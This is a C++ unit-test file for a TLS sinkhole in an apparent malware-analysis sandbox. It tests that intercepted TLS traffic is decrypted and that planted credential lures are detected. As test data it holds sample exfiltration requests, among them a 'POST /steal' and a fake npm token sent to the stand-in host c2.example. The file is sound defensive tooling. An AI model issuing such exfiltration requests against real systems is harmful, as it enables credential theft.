// TLS as real clients speak it: OpenSSL's client in memory, verifying what it is shown, against one talk.
#include "agent/sinkhole/tls.h"

#include <gtest/gtest.h>
#include <openssl/err.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>
#include <openssl/x509v3.h>

#include <chrono>

#include "agent/sinkhole/talk.h"

namespace assay::sinkhole {
namespace {

struct Options {
  std::string sni = "c2.example";
  std::string verify{};          // a host name to insist on; empty: the SNI
  std::string verify_address{};  // instead
  std::string alpn{};            // in wire form
  int version = TLS1_3_VERSION;
  bool trusting = true;  // has the scan's authority in its store
};

class Client {
 public:
  Client(const Options& options, const std::string& authority) {
    context_ = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_cipher_list(context_, "ALL:@SECLEVEL=0");
    SSL_CTX_set_min_proto_version(context_, options.version);
    SSL_CTX_set_max_proto_version(context_, options.version);
    SSL_CTX_set_verify(context_, SSL_VERIFY_PEER, nullptr);
    if (options.trusting) {
      BIO* in = BIO_new_mem_buf(authority.data(), static_cast<int>(authority.size()));
      X509* root = PEM_read_bio_X509(in, nullptr, nullptr, nullptr);
      X509_STORE_add_cert(SSL_CTX_get_cert_store(context_), root);
      X509_free(root);
      BIO_free(in);
    }
    ssl_ = SSL_new(context_);
    SSL_set_bio(ssl_, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
    SSL_set_connect_state(ssl_);
    if (!options.sni.empty()) SSL_set_tlsext_host_name(ssl_, options.sni.c_str());
    if (!options.alpn.empty())
      SSL_set_alpn_protos(ssl_, reinterpret_cast<const unsigned char*>(options.alpn.data()),
                          static_cast<unsigned>(options.alpn.size()));
    X509_VERIFY_PARAM* param = SSL_get0_param(ssl_);
    if (!options.verify_address.empty())
      X509_VERIFY_PARAM_set1_ip_asc(param, options.verify_address.c_str());
    else
      SSL_set1_host(ssl_, (options.verify.empty() ? options.sni : options.verify).c_str());
  }
  Client(const Client&) = delete;
  Client& operator=(const Client&) = delete;
  ~Client() {
    SSL_free(ssl_);
    SSL_CTX_free(context_);
  }
  SSL* ssl() { return ssl_; }
  std::string to_send() {
    char* bytes = nullptr;
    long size = BIO_get_mem_data(SSL_get_wbio(ssl_), &bytes);
    std::string out(bytes, static_cast<size_t>(std::max(size, 0L)));
    (void)BIO_reset(SSL_get_wbio(ssl_));
    return out;
  }
  // Takes the server's bytes, says `text` once it can, and keeps what it hears.
  void take(const std::string& bytes) {
    if (!bytes.empty()) BIO_write(SSL_get_rbio(ssl_), bytes.data(), static_cast<int>(bytes.size()));
    ERR_clear_error();
    int done = SSL_do_handshake(ssl_);
    if (done != 1) {
      failed = SSL_get_error(ssl_, done) != SSL_ERROR_WANT_READ;
      return;
    }
    if (!text.empty()) SSL_write(ssl_, text.data(), static_cast<int>(text.size()));
    text.clear();
    char buffer[4096];
    for (int n; (n = SSL_read(ssl_, buffer, sizeof buffer)) > 0;)
      heard.append(buffer, static_cast<size_t>(n));
    closed = (SSL_get_shutdown(ssl_) & SSL_RECEIVED_SHUTDOWN) != 0;
  }

  std::string text, heard;
  bool failed = false, closed = false;

 private:
  SSL_CTX* context_;
  SSL* ssl_;
};

class TlsTest : public testing::Test {
 protected:
  void SetUp() override {
    auto pem = lure::Authority::create();
    ASSERT_TRUE(pem) << pem.error().what;
    authority_ = pem->cert;
    lure::Lures lures;
    lures.tokens = {{"npm:/root/.npmrc", "npm", "/root/.npmrc", {"npm_u8Zk2LqPw0RtYb6VxCe4NsDf1GhJm3"}}};
    scene_ = std::make_unique<Scene>(std::move(lures));
    auto loaded = lure::Authority::load(pem->cert, pem->key);
    ASSERT_TRUE(loaded);
    scene_->authority.emplace(std::move(*loaded));
    auto server = TlsServer::open(*scene_->authority);
    ASSERT_TRUE(server) << server.error().what;
    scene_->tls_server.emplace(std::move(*server));
    peer_.dst = Address::v4(0xc6120007);  // 198.18.0.7
    peer_.dst_port = 4433;
  }
  // Runs both ends until neither has more to say; the server hears at most `piece` bytes at once.
  void converse(Talk& talk, Client& client, size_t piece = 4096) {
    client.take("");
    for (std::string bytes = client.to_send(); !bytes.empty(); bytes = client.to_send()) {
      std::string answer;
      for (size_t at = 0; at < bytes.size(); at += piece)
        answer += talk.hear(std::string_view(bytes).substr(at, piece), 1'700'000'000'000'000'000, told_);
      client.take(answer);
    }
  }
  Talk talk() { return Talk(peer_, *scene_); }
  std::string reports(ReportKind kind) const {
    std::string out;
    for (const Report& report : told_)
      if (report.kind == kind)
        out += report.app + " " + report.method + " " + report.path + " " + report.name + " " +
               report.detail + "\n";
    return out;
  }

  std::string authority_;
  std::unique_ptr<Scene> scene_;
  Peer peer_;
  std::vector<Report> told_;
};

const std::string kGet = "POST /steal HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 6\r\n\r\nsecret";

TEST_F(TlsTest, BodyIsReadAndAnsweredInEveryVersion) {
  for (int version : {TLS1_VERSION, TLS1_1_VERSION, TLS1_2_VERSION, TLS1_3_VERSION}) {
    Client client({.version = version}, authority_);
    client.text = kGet;
    Talk server = talk();
    converse(server, client);
    EXPECT_EQ(client.heard.substr(0, 15), "HTTP/1.1 200 OK") << version;
    EXPECT_EQ(server.app(), "https");
    ASSERT_TRUE(server.plaintext());
    EXPECT_EQ(*server.plaintext(), kGet);
  }
}

TEST_F(TlsTest, BytesMayComeOneByOne) {
  Client client({}, authority_);
  client.text = kGet;
  Talk server = talk();
  converse(server, client, 1);
  EXPECT_EQ(client.heard.substr(0, 15), "HTTP/1.1 200 OK");
  EXPECT_EQ(*server.plaintext(), kGet);
}

TEST_F(TlsTest, ClientWithoutSniFindsTheAddressOrTheNameItLookedUp) {
  peer_.host = "looked-up.example";
  for (const Options& options : {Options{.sni = "", .verify_address = "198.18.0.7"},
                                 Options{.sni = "", .verify = "looked-up.example"}}) {
    Client client(options, authority_);
    client.text = kGet;
    Talk server = talk();
    converse(server, client);
    EXPECT_FALSE(client.failed);
    EXPECT_EQ(client.heard.substr(0, 15), "HTTP/1.1 200 OK");
  }
}

TEST_F(TlsTest, TokenInsideIsSeen) {
  Client client({}, authority_);
  client.text =
      "POST / HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 33\r\n\r\n"
      "npm_u8Zk2LqPw0RtYb6VxCe4NsDf1GhJm3";
  Talk server = talk();
  converse(server, client);
  EXPECT_EQ(reports(ReportKind::token), " sent npm:/root/.npmrc c2.example plain\n");
}

TEST_F(TlsTest, AlpnIsHttp11WhereItIsOffered) {
  struct Case {
    std::string offered, chosen;
  };
  for (const Case& c : {Case{std::string("\x02h2\x08http/1.1"), "http/1.1"}, Case{"\x08http/1.1", "http/1.1"},
                        Case{"\x02h2", ""},
                        Case{"\x0a"
                             "acme-tls/1",
                             ""},
                        Case{"\x03irc", "irc"}, Case{"", ""}}) {
    Client client({.alpn = c.offered}, authority_);
    Talk server = talk();
    converse(server, client);
    const unsigned char* chosen = nullptr;
    unsigned size = 0;
    SSL_get0_alpn_selected(client.ssl(), &chosen, &size);
    EXPECT_FALSE(client.failed);
    EXPECT_EQ(std::string(reinterpret_cast<const char*>(chosen), size), c.chosen);
  }
}

TEST_F(TlsTest, ClientThatRefusesTheCertificateIsTold) {
  for (int version : {TLS1_2_VERSION, TLS1_3_VERSION}) {
    told_.clear();
    Client client({.alpn = std::string("\x02h2\x08http/1.1"), .version = version, .trusting = false},
                  authority_);
    client.text = kGet;
    Talk server = talk();
    converse(server, client);
    EXPECT_TRUE(client.failed);
    EXPECT_TRUE(server.closing());
    std::string name = version == TLS1_2_VERSION ? "TLSv1.2" : "TLSv1.3";
    EXPECT_EQ(reports(ReportKind::http), "tls refused unknown CA c2.example " + name + "\n");
    EXPECT_EQ(told_.at(0).data, "sni=c2.example alpn=h2,http/1.1 version=" + name);
    EXPECT_EQ(server.app(), "tls");
    EXPECT_EQ(*server.plaintext(), "");
  }
}

TEST_F(TlsTest, SilentClientInsideIsGreeted) {
  peer_.dst_port = 465;
  Client client({}, authority_);
  Talk server = talk();
  converse(server, client);
  ASSERT_FALSE(client.failed);
  client.take(server.silence(0, told_));
  EXPECT_EQ(server.app(), "tls+smtp");
  EXPECT_EQ(client.heard.substr(0, 4), "220 ");
  client.take(server.silence(0, told_));
  EXPECT_EQ(client.heard.find("220 ", 1), std::string::npos);  // once
}

TEST_F(TlsTest, AnswerThatEndsTheConnectionEndsItProperly) {
  Client client({}, authority_);
  client.text = "GET / HTTP/1.1\r\nHost: c2.example\r\nConnection: close\r\n\r\n";
  Talk server = talk();
  converse(server, client);
  EXPECT_EQ(client.heard.substr(0, 15), "HTTP/1.1 200 OK");
  EXPECT_TRUE(server.closing());
  EXPECT_TRUE(client.closed);
}

TEST_F(TlsTest, WithoutAnAuthorityTheAlertComesAtOnce) {
  scene_->tls_server.reset();
  Client client({}, authority_);
  Talk server = talk();
  converse(server, client);
  EXPECT_TRUE(client.failed);
  EXPECT_TRUE(server.closing());
}

TEST_F(TlsTest, TlsWithinTlsHasAnEnd) {
  for (uint8_t depth : {uint8_t{1}, uint8_t{2}}) {
    peer_.tls_depth = depth;
    Client client({}, authority_);
    client.text = kGet;
    Talk server = talk();
    converse(server, client);
    EXPECT_EQ(client.failed, depth == 2);
  }
}

TEST_F(TlsTest, ManyRequestsAtOnceCannotMakeUsHoldMuch) {
  Client client({}, authority_);
  Talk server = talk();
  converse(server, client);
  for (int record = 0; record < 500; ++record) {
    std::string request = "GET /tool" + std::to_string(record) + ".tar.gz HTTP/1.1\r\nHost: a\r\n\r\n";
    SSL_write(client.ssl(), request.data(), static_cast<int>(request.size()));
  }
  std::string answer = server.hear(client.to_send(), 0, told_);
  EXPECT_GT(answer.size(), 10'000u);
  EXPECT_LT(answer.size(), 2u << 20);
}

TEST_F(TlsTest, GarbageAndHostileHellosEndWithoutHarm) {
  Client model({.sni = "c2.example", .alpn = std::string("\x02h2\x08http/1.1")}, authority_);
  model.take("");
  const std::string hello = model.to_send();
  uint32_t random = 1;
  for (int round = 0; round < 3000; ++round) {
    std::string bytes = hello;
    for (int i = 0; i < 1 + round % 7; ++i) {
      random = random * 1664525 + 1013904223;
      bytes[2 + (random >> 8) % (bytes.size() - 2)] = static_cast<char>(random >> 24);
    }
    if (round % 5 == 0) bytes.resize(2 + (random >> 8) % (bytes.size() - 2));
    Talk server = talk();
    std::string answer = server.hear(bytes, 0, told_);
    EXPECT_LT(answer.size(), 8192u);
    server.hear(bytes, 0, told_);
  }
  EXPECT_LE(told_.size(), 3000u);
}

TEST_F(TlsTest, OddServerNamesAreNotRepeated) {
  for (const char* sni : {"a b", "evil\nname", "\xc3\xa9", "UPPER.Example"}) {
    peer_.host = "looked-up.example";
    Client client({.sni = sni, .verify = "looked-up.example", .trusting = false}, authority_);
    Talk server = talk();
    converse(server, client);
    ASSERT_FALSE(told_.empty());
    EXPECT_EQ(told_.back().name, std::string(sni) == "UPPER.Example" ? "upper.example" : "looked-up.example");
  }
}

}  // namespace
}  // namespace assay::sinkhole
